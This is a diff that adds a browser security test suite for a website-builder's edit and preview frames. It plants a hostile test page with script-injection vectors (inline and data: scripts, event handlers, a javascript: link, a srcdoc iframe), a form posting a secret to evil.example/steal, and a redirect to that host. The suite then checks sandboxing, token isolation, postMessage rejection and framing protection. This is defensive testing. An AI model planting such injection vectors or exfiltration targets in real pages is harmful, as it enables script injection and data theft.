@@ -1,0 +1,215 @@
+import { test } from '@japa/runner'
+import type { Browser, Frame, Page } from 'playwright'
+import { Baker } from '#tests/helpers/baker'
+import { openBrowser, visitor } from '#tests/helpers/browser'
+import { callAsPerson, savePage } from '#tests/helpers/call_as_person'
+import { type Product, startProduct } from '#tests/helpers/product'
+
+let product: Product
+let browser: Browser
+
+/** Each vector, if it ran, would leave its name on the page that it ran in. */
+const VECTORS = ['inline', 'external', 'onload', 'onerror', 'onclick', 'link', 'nested']
+
+const ran = (name: string) => `document.documentElement.setAttribute('data-ran-${name}','')`
+
+/** A customer's page that tries everything a page can try. */
+function hostilePage(): string {
+  const nested = `<script>parent.${ran('nested')}</script>`.replaceAll('"', '&quot;')
+  return [
+    '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title>',
+    `<style>h1 { color: rgb(1, 2, 3) }</style>`,
+    `<script>${ran('inline')}</script>`,
+    `<script src="data:text/javascript,${encodeURIComponent(ran('external'))}"></script>`,
+    `</head><body onload="${ran('onload')}">`,
+    `<h1>Hostile</h1>`,
+    `<img src="data:image/png,broken" alt="" onerror="${ran('onerror')}">`,
+    `<button id="click" onclick="${ran('onclick')}">Click</button>`,
+    `<a id="link" href="javascript:void(${ran('link')})">Link</a>`,
+    `<iframe srcdoc="${nested}"></iframe>`,
+    `<form id="form" action="https://evil.example/steal"><input name="q" value="secret">`,
+    `<button id="send">Send</button></form>`,
+    `<p id="last">The end</p>`,
+    '</body></html>',
+  ].join('\n')
+}
+
+test.group('A customer’s page and the app', (group) => {
+  let page: Page
+  let baker: Baker
+  let website: string
+
+  group.setup(async () => {
+    product = await startProduct()
+    browser = await openBrowser()
+    page = (await visitor(browser)).page
+    baker = new Baker(page, product)
+    await baker.hasAWebsite()
+    website = /preview\/([^?]+)/.exec(page.url())![1]
+    await savePage(page, website, hostilePage())
+  })
+  group.teardown(async () => {
+    await browser?.close()
+    await product?.stop()
+  })
+
+  test('while it is edited, none of its scripts run, and the editor’s does', async ({ assert }) => {
+    const frame = await editFrame(page, baker, website)
+    await frame.locator('#click').click()
+    await frame.locator('#link').click()
+    await page.waitForTimeout(500)
+    assert.deepEqual(await marksOf(frame), [])
+    // Ours runs: the click on the link has selected it.
+    await page.getByRole('textbox', { name: 'Link' }).waitFor()
+    const color = await frame.locator('h1').evaluate((h1) => getComputedStyle(h1).color)
+    assert.equal(color, 'rgb(1, 2, 3)')
+  })
+
+  test('while it is previewed, its scripts do run', async ({ assert }) => {
+    await baker.opens(`/preview/${website}`)
+    const frame = await foreignFrame(page, '/v/')
+    await frame.locator('#click').click()
+    await frame.locator('#link').click()
+    await page.waitForTimeout(500)
+    assert.deepEqual(await marksOf(frame), VECTORS)
+  })
+
+  test('while it is edited, it leads nowhere and sends nothing', async ({ assert }) => {
+    const away =
+      `<meta http-equiv="refresh" content="0;url=https://evil.example/away">` +
+      `<base href="https://evil.example/">`
+    await savePage(page, website, hostilePage().replace('<title>', `${away}<title>`))
+    const asked: string[] = []
+    page.on('request', (request) => asked.push(request.url()))
+    const frame = await editFrame(page, baker, website)
+    const address = frame.url()
+    await frame.locator('#send').click()
+    await frame.locator('#link').dblclick()
+    await page.keyboard.press('Escape')
+    await page.waitForTimeout(1_000)
+    assert.equal(frame.url(), address)
+    assert.deepEqual(
+      asked.filter((url) => url.includes('evil.example')),
+      []
+    )
+    await savePage(page, website, hostilePage())
+  })
+
+  test('the app’s token cannot be read from the preview or the edit frame', async ({ assert }) => {
+    const token = await page.evaluate(() => localStorage.getItem('access'))
+    assert.match(token ?? '', /^at_/)
+    for (const [path, mode] of [
+      [`/preview/${website}`, '/v/'],
+      [`/edit/${website}`, '/e/'],
+    ]) {
+      await baker.opens(path)
+      const frame = await foreignFrame(page, mode)
+      assert.notEqual(new URL(frame.url()).origin, product.url)
+      const { own, ...above } = await reachOf(frame)
+      // A frame below the app's own domain, as on one machine, gets no storage at all.
+      assert.isTrue(own === null || own === 'SecurityError', `storage answered ${own}`)
+      assert.deepEqual(above, { parent: 'SecurityError', top: 'SecurityError', cookie: '' })
+    }
+  })
+
+  test('nor from the preview opened in a tab of its own', async ({ assert }) => {
+    await baker.opens(`/preview/${website}`)
+    const opening = page.context().waitForEvent('page')
+    await page.getByText('Open in New Tab').first().click()
+    const tab = await opening
+    await tab.waitForLoadState()
+    assert.notEqual(new URL(tab.url()).origin, product.url)
+    const seen = await tab.evaluate(() => [localStorage.getItem('access'), String(window.opener)])
+    assert.deepEqual(seen, [null, 'null'])
+    await tab.close()
+  })
+
+  test('the edit frame listens to nobody but the app that holds it', async ({ assert }) => {
+    const { url } = await callAsPerson(page, 'GET', `/spa/websites/${website}/edit_frame/`)
+    const stranger = await page.context().newPage()
+    await stranger.goto(url)
+    await stranger.locator('#last').waitFor()
+    // Whoever shares its origin may speak to it, yet is not the app.
+    const answers = await stranger.evaluate(async () => {
+      const heard: unknown[] = []
+      const { port1, port2 } = new MessageChannel()
+      port1.onmessage = ({ data }) => heard.push(data)
+      window.postMessage({ v: 1, t: 'hello', nonce: 'abc' }, '*', [port2])
+      port1.postMessage({ t: 'render', html: '<h1>Mine</h1>' })
+      await new Promise((resolve) => setTimeout(resolve, 500))
+      return [heard.length, document.querySelector('h1')!.textContent]
+    })
+    assert.deepEqual(answers, [0, 'Hostile'])
+    await stranger.close()
+  })
+
+  test('the edit frame cannot be framed by another site', async ({ assert }) => {
+    const { url } = await callAsPerson(page, 'GET', `/spa/websites/${website}/edit_frame/`)
+    const preview = await foreignPreview(page, baker, website)
+    const blocked = await preview.evaluate(async (address) => {
+      const frame = document.createElement('iframe')
+      frame.src = address
+      document.body.append(frame)
+      await new Promise((resolve) => (frame.onload = resolve))
+      try {
+        return !frame.contentDocument?.querySelector('#last')
+      } catch {
+        return true
+      }
+    }, url)
+    assert.isTrue(blocked)
+  })
+})
+
+async function editFrame(page: Page, baker: Baker, website: string): Promise<Frame> {
+  await baker.opens(`/edit/${website}`)
+  const frame = await foreignFrame(page, '/e/')
+  await frame.locator('#last').waitFor()
+  await page.getByText('Opening the page').waitFor({ state: 'detached' })
+  return frame
+}
+
+async function foreignPreview(page: Page, baker: Baker, website: string): Promise<Frame> {
+  await baker.opens(`/preview/${website}`)
+  const frame = await foreignFrame(page, '/v/')
+  await frame.locator('#last').waitFor()
+  return frame
+}
+
+/** The frame of the customer's page, told by its address. */
+async function foreignFrame(page: Page, mode: string): Promise<Frame> {
+  await page.locator('iframe').first().waitFor()
+  for (let tries = 0; tries < 100; tries++) {
+    const found = page.frames().find((frame) => new RegExp(`//p-[^/]+${mode}`).test(frame.url()))
+    if (found) {
+      await found.locator('#last').waitFor()
+      return found
+    }
+    await page.waitForTimeout(50)
+  }
+  throw new Error('The page was never framed.')
+}
+
+async function marksOf(frame: Frame): Promise<string[]> {
+  const names = await frame.evaluate(() => document.documentElement.getAttributeNames())
+  return VECTORS.filter((name) => names.includes(`data-ran-${name}`))
+}
+
+/** What a script at this place would get of the app, by each way that there is. */
+function reachOf(frame: Frame) {
+  return frame.evaluate(() => {
+    const attempt = (act: () => unknown) => {
+      try {
+        return act()
+      } catch (error) {
+        return (error as Error).name
+      }
+    }
+    return {
+      own: attempt(() => localStorage.getItem('access')),
+      parent: attempt(() => window.parent.localStorage.getItem('access')),
+      top: attempt(() => window.top!.document.body.innerHTML),
+      cookie: attempt(() => document.cookie),
+    }
+  })
+}
